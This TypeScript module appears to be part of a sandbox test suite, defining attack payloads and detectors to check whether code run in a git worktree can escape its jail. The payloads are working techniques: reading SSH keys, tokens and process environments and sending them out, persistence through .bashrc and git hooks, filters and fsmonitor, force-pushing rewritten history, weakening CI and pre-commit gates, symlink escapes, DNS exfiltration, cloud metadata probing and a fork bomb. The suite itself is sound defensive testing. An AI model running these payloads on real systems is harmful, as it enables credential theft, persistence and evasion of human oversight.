import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { census } from '../../core/census.ts'
import type { Facts, Place } from './place.ts'

/** How things stood before, and what the run left, for telling whether an attack got through. */
export interface Aftermath {
  place: Place
  canary: string
  /** Files of the home, of the folder outside, of the main working tree's git directory, before the run. */
  before: Record<'home' | 'outside' | 'hooks', Map<string, string>>
  after: Record<'home' | 'outside' | 'hooks' | 'worktrees' | 'main', Map<string, string>>
  /** All objects of repository and remote, as text. */
  objects: string
  /** Everything the run wrote into sessions. */
  session: string
  /** Everything the attacks printed. */
  said: string
  base: string
  /** Protected files that some branch has in a weakened form. */
  weakened: string[]
}

/** One thing an attacker tries. */
export interface Attack {
  id: string
  /** Runs where the attack runs, as text: JavaScript over `P` (facts), `fs`, `cp`, `net`, `dns`, `dgram` and `say`. */
  payload: string
  /** Returns what shows that it got out; undefined when nothing does. */
  escaped(aftermath: Aftermath): Promise<string | undefined>
  /** Whether it may be let loose without a jail, in the test that shows that these attacks work. */
  harmless: boolean
}

const TRY = 'const attempt = (work) => { try { return work() } catch (error) { return error.code } };'

export const ATTACKS: readonly Attack[] = [
  {
    id: 'huge output',
    harmless: true,
    payload: `const line = 'x'.repeat(999) + '\\n'; for (let n = 0; n < 20000; n++) print(line);
      ${TRY} attempt(() => { const file = fs.openSync('huge.bin', 'w'); for (let at = 0; at < 64; at++) fs.writeSync(file, Buffer.alloc(1024 * 1024)); fs.closeSync(file) })`,
    async escaped({ session, after }) {
      if (session.length > 3_000_000) return `the sessions have ${session.length} characters`
      const large = [...after.worktrees, ...after.main].find(
        ([path, text]) => path.endsWith('huge.bin') && /^\d+ bytes$/.test(text),
      )
      return large && `${large[0]} has ${large[1]}`
    },
  },
  {
    id: 'exfiltration',
    harmless: true,
    payload: `const files = [P.home + '/.ssh/id_ed25519', P.home + '/.npmrc', P.home + '/.config/gh/hosts.yml', P.outside + '/secret.txt', P.main + '/.env', P.main + '/.git/config', '.git/config', '/proc/1/environ', '/proc/self/environ'];
      let loot = JSON.stringify(process.env); for (const file of files) { try { loot += fs.readFileSync(file, 'latin1') } catch {} }
      for (const id of fs.readdirSync('/proc')) { try { loot += fs.readFileSync('/proc/' + id + '/environ', 'latin1') } catch {} }
      fs.writeFileSync('loot.txt', loot); fs.writeFileSync('loot.b64', Buffer.from(loot).toString('base64')); say('loot ' + loot.match(/canary[a-z]{24}/g)); await send(P.port, 'loot ' + loot)`,
    async escaped({ canary, objects, session, said, place, after }) {
      const forms = [canary, Buffer.from(canary).toString('base64').slice(0, 30), Buffer.from(canary).toString('hex')]
      const where = Object.entries({
        objects,
        session,
        output: said,
        network: place.heard.join('\n'),
        worktrees: [...after.worktrees.values()].join('\n'),
      }).filter(([, text]) => forms.some((form) => text.includes(form)))
      return where.length > 0 ? `the canary is in ${where.map(([name]) => name).join(', ')}` : undefined
    },
  },
  {
    id: 'execution',
    harmless: true,
    payload: `cp.spawn('setsid', ['sleep', String(P.sleep)], { detached: true, stdio: 'ignore', env: {} }).unref(); cp.spawnSync('systemd-run', ['--user', 'touch', P.outside + '/execution'], { timeout: 2000 });
      ${TRY} attempt(() => process.kill(P.pid ?? process.ppid, 0)); attempt(() => fs.writeFileSync(P.outside + '/execution', 'by the attack itself'))`,
    async escaped({ place, after }) {
      const lines = await Promise.all(
        (await census()).map(({ pid }) => readFile(`/proc/${pid}/cmdline`, 'latin1').catch(() => '')),
      )
      if (lines.some((line) => line.includes(String(place.facts.sleep)) && line.includes('sleep')))
        return 'its process still runs'
      return after.outside.has('execution') ? 'it ran a program outside' : undefined
    },
  },
  {
    id: 'persistence',
    harmless: true,
    payload: `${TRY} for (const file of [P.home + '/.bashrc', P.home + '/.config/autostart/x.desktop', P.home + '/.gitconfig']) attempt(() => { fs.mkdirSync(require('path').dirname(file), { recursive: true }); fs.appendFileSync(file, 'planted') });
      cp.spawnSync('git', ['config', '--local', 'core.hooksPath', P.outside]); cp.spawnSync('git', ['config', '--local', 'alias.status', '!touch ' + P.outside + '/alias']);
      attempt(() => fs.appendFileSync(P.main + '/.git/config', '[core]\\n\\thooksPath = ' + P.outside + '\\n'))`,
    escaped: async ({ before, after }) =>
      changed('home', before.home, after.home) ?? changed('git directory', before.hooks, after.hooks),
  },
  {
    id: 'gate weakening',
    harmless: true,
    payload: `${TRY} for (const file of ['.valuetrain/config.yaml', '.valuetrain/pipelines/routine.yaml', '.github/workflows/ci.yml', '.husky/pre-commit', P.main + '/.valuetrain/config.yaml']) attempt(() => { fs.mkdirSync(require('path').dirname(file), { recursive: true }); fs.writeFileSync(file, 'version: 1\\n# weakened\\n') });
      attempt(() => fs.renameSync('.valuetrain', 'moved')); attempt(() => fs.rmSync('.valuetrain', { recursive: true }))`,
    async escaped({ after, weakened }) {
      const own = /(?:^|build_1\/)\.(?:valuetrain\/(?:config|pipelines)|github|husky)/
      const found = [...after.worktrees, ...after.main].find(([path, text]) => own.test(path) && text.includes('# weakened'))
      return found ? `${found[0]} was weakened` : weakened[0]
    },
  },
  {
    id: 'history rewriting',
    harmless: true,
    payload: `for (const args of [['update-ref', 'refs/heads/main', 'HEAD~1'], ['commit', '--allow-empty', '-m', 'rewritten by ' + 'an attack'], ['push', '--force', P.remote, 'HEAD:main'], ['push', '--force', 'origin', 'HEAD:main'], ['-C', P.main, 'commit', '--allow-empty', '-m', 'rewritten by ' + 'an attack'], ['-C', P.main, 'reflog', 'expire', '--all'], ['update-ref', '-d', 'refs/valuetrain/leases/1']]) cp.spawnSync('git', args)`,
    async escaped({ objects, place, base }) {
      if (objects.includes('rewritten by an attack')) return 'its commit is in a repository'
      return (await place.git.succeeds(['merge-base', '--is-ancestor', base, 'main']))
        ? undefined
        : 'main does not contain its past'
    },
  },
  {
    id: 'writes outside',
    harmless: true,
    payload: `${TRY} for (const folder of [P.outside, P.home, P.main, P.main + '/..', P.main + '.worktrees']) attempt(() => fs.writeFileSync(folder + '/planted-outside', 'x'))`,
    async escaped({ after, place }) {
      const around = await readFile(join(place.outside, 'planted-outside')).catch(() => undefined)
      const found = [...after.outside, ...after.home, ...after.main, ...after.worktrees].find(([path]) =>
        path.endsWith('planted-outside'),
      )
      return found?.[0] ?? (around ? 'beside the repository' : undefined)
    },
  },
  {
    id: 'symlinks',
    harmless: true,
    payload: `${TRY} attempt(() => fs.symlinkSync(P.outside, 'out')); attempt(() => fs.writeFileSync('out/through-link', 'x')); attempt(() => fs.symlinkSync(P.home + '/.ssh/id_ed25519', 'key')); attempt(() => fs.readFileSync('key'));
      for (const folder of attempt(() => fs.readdirSync('.valuetrain/tickets')) ?? []) { const at = '.valuetrain/tickets/' + folder; attempt(() => fs.symlinkSync(P.outside, at + '/artifacts/out')); attempt(() => { fs.rmSync(at + '/artifacts', { recursive: true }); fs.symlinkSync(P.outside, at + '/artifacts') }); attempt(() => { fs.rmSync(at + '/ticket.md'); fs.symlinkSync(P.outside + '/ticket', at + '/ticket.md') }) }`,
    async escaped({ before, after }) {
      const added = [...after.outside.keys()].filter((path) => !before.outside.has(path) && /link|ticket|out/.test(path))
      return added.length > 0 ? `outside there is ${added.join(', ')}` : undefined
    },
  },
  {
    id: 'planted hooks',
    harmless: true,
    payload: `${TRY} const hook = '#!/bin/sh\\ntouch ' + P.outside + '/hook-ran; true\\n';
      for (const file of ['.git/hooks/pre-commit', '.git/hooks/post-commit', P.main + '/.git/hooks/post-commit', P.main + '/.git/hooks/pre-commit.chained', 'tools/lint.sh']) attempt(() => { fs.mkdirSync(require('path').dirname(file), { recursive: true }); fs.writeFileSync(file, hook, { mode: 0o755 }) })`,
    escaped: async ({ before, after }) =>
      after.outside.has('hook-ran') ? 'a planted hook ran outside' : changed('hooks', before.hooks, after.hooks),
  },
  {
    id: 'filters and fsmonitor',
    harmless: true,
    payload: `${TRY} attempt(() => fs.writeFileSync('tools/tidy.sh', 'touch ' + P.outside + '/filter-ran; cat')); attempt(() => fs.writeFileSync('filtered.tidy', 'x'));
      attempt(() => { const at = 'nested-' + process.pid; fs.mkdirSync(at); cp.spawnSync('git', ['init', '-q', at]); fs.writeFileSync(at + '/.gitattributes', '* filter=evil diff=evil'); fs.writeFileSync(at + '/file', 'x');
        cp.spawnSync('git', ['-C', at, 'add', '.']); cp.spawnSync('git', ['-C', at, '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'x']);
        fs.appendFileSync(at + '/.git/config', '[core]\\n\\tfsmonitor = "touch ' + P.outside + '/filter-ran; false"\\n\\thooksPath = hooks\\n[filter "evil"]\\n\\tclean = "touch ' + P.outside + '/filter-ran; cat"\\n\\tprocess = "touch ' + P.outside + '/filter-ran"\\n[diff]\\n\\texternal = "touch ' + P.outside + '/filter-ran"\\n[diff "evil"]\\n\\ttextconv = "touch ' + P.outside + '/filter-ran; cat"\\n'); fs.writeFileSync(at + '/file', 'changed') })`,
    escaped: async ({ after }) => (after.outside.has('filter-ran') ? 'a filter ran outside' : undefined),
  },
  {
    id: 'DNS',
    harmless: true,
    payload: `const resolver = new dns.Resolver({ timeout: 300, tries: 1 }); resolver.setServers(['127.0.0.1:' + P.dnsPort]); await resolver.resolve4('stolen.attack.invalid').catch(() => {});
      await new Promise((done) => { const socket = dgram.createSocket('udp4'); socket.on('error', done); socket.send('stolen by udp', P.dnsPort, '127.0.0.1', () => { socket.close(); done() }) })`,
    escaped: async ({ place }) => place.heard.find((line) => line.startsWith('dns')),
  },
  {
    id: 'proxies unset',
    harmless: true,
    payload: `for (const name of Object.keys(process.env)) if (/proxy/i.test(name)) delete process.env[name]; await send(P.port, 'direct'); cp.spawnSync(process.execPath, ['-e', 'fetch("http://127.0.0.1:' + P.port + '/direct").catch(() => {})'], { env: {}, timeout: 5000 })`,
    escaped: async ({ place }) => place.heard.find((line) => line.includes('direct')),
  },
  {
    id: 'metadata addresses',
    harmless: true,
    payload: `const through = (target) => new Promise((done) => { const proxy = Number(new URL(process.env.HTTPS_PROXY ?? 'http://x:8118').port); const socket = net.connect({ host: '127.0.0.1', port: proxy, timeout: 1500 }, () => socket.write('CONNECT ' + target + ' HTTP/1.1\\r\\n\\r\\n')); let text = ''; socket.on('data', (data) => { text += data; if (text.includes('200 Connection')) { socket.write('by proxy'); setTimeout(() => socket.destroy(), 100) } }); socket.on('error', () => done(text)); socket.on('timeout', () => socket.destroy()); socket.on('close', () => done(text)) });
      for (const target of ['169.254.169.254:80', '[fd00:ec2::254]:80', 'localhost:' + P.port, '127.0.0.1:' + P.port]) { if (/200 Connection/.test(await through(target))) say('metadata reached ' + target) }
      if (P.jailed) for (const host of ['169.254.169.254', '100.100.100.200']) await new Promise((done) => { const socket = net.connect({ host, port: 80, timeout: 500 }, () => { say('metadata reached ' + host); socket.destroy(); done() }); socket.on('error', done); socket.on('timeout', () => { socket.destroy(); done() }) })
      else await send(P.port, 'by proxy')`,
    escaped: async ({ place, said }) =>
      place.heard.find((line) => line.includes('by proxy')) ??
      (said.includes('metadata reached') ? 'an address was reached' : undefined),
  },
  {
    id: 'fork bomb',
    harmless: false,
    payload: `const bomb = cp.spawnSync('sh', ['-c', 'n=0; while [ $n -lt 600 ]; do sleep ' + P.sleep + ' & n=$((n+1)); done 2>/dev/null; echo'], { timeout: 8000 }); let alive = 0;
      for (const id of fs.readdirSync('/proc')) { try { if (fs.readFileSync('/proc/' + id + '/cmdline', 'latin1').includes(String(P.sleep))) alive++ } catch {} } say('bomb of ' + alive); cp.spawnSync('pkill', ['-f', 'sleep ' + P.sleep])`,
    async escaped({ place, said }) {
      const lines = await Promise.all(
        (await census()).map(({ pid }) => readFile(`/proc/${pid}/cmdline`, 'latin1').catch(() => '')),
      )
      if (lines.some((line) => line.includes(String(place.facts.sleep)) && line.includes('sleep'))) return 'processes are left'
      const most = Math.max(0, ...[...said.matchAll(/bomb of (\d+)/g)].map(([, count]) => Number(count)))
      return most > PROCESSES ? `it had ${most} processes where ${PROCESSES} were allowed` : undefined
    },
  },
]

/** Processes that a jail of these tests allows. */
export const PROCESSES = 120

function changed(what: string, before: Map<string, string>, after: Map<string, string>): string | undefined {
  const paths = [...new Set([...before.keys(), ...after.keys()])].filter((path) => before.get(path) !== after.get(path))
  return paths.length > 0 ? `${what}: ${paths.slice(0, 5).join(', ')} changed` : undefined
}

/** Returns a program that makes all attacks, one after another, and prints which it has tried. */
export function payloadOf(facts: Facts & { jailed: boolean }, attacks: readonly Attack[]): string {
  const parts = attacks.map(
    ({ id, payload }) =>
      `try { await (async () => { ${payload} })() } catch (error) { say('error ' + error.message) }\nsay('tried ${id};')`,
  )
  return `const fs = require('node:fs'), cp = require('node:child_process'), net = require('node:net'), dns = require('node:dns/promises'), dgram = require('node:dgram')
const P = ${JSON.stringify(facts)}
// Where git starts it again and again, once is enough.
if (require('node:os').hostname() === 'jail' && fs.existsSync('tried.log')) process.exit(0)
const print = (text) => { for (let tries = 0; tries < 1000; tries++) { try { fs.writeSync(1, text); return } catch { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 5) } } }
const say = (text) => { print(text + '\\n'); try { fs.appendFileSync('tried.log', text.replace(/^loot.*/, '') + '\\n') } catch {} }
const send = (port, text) => new Promise((done) => { const socket = net.connect({ host: '127.0.0.1', port, timeout: 1000 }, () => socket.end(text)); socket.resume(); socket.on('error', done); socket.on('close', done); socket.on('timeout', () => socket.destroy()) })
;(async () => {
${parts.join('\n')}
process.exit(0)
})()
`
}
